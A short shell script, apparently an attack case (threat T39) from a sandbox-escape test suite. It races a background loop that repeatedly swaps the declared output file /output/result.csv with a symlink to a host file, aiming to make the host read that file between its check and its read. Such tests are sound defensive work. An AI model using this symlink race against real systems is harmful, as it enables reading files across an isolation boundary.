#!/bin/sh
# attack: swap the declared output for a link between the check and the reading
# threat: T39
# expect: COMPLETED
. /input/targets.sh
echo TRIED
ln -s "$HOST_FILE" /output/link
echo harmless >/output/plain
setsid sh -c 'while :; do cp /output/plain /output/result.csv; mv -f /output/link /output/result.csv; ln -s '"$HOST_FILE"' /output/link; done' \
    >/dev/null 2>&1 </dev/null &
sleep 0.5
exit 0
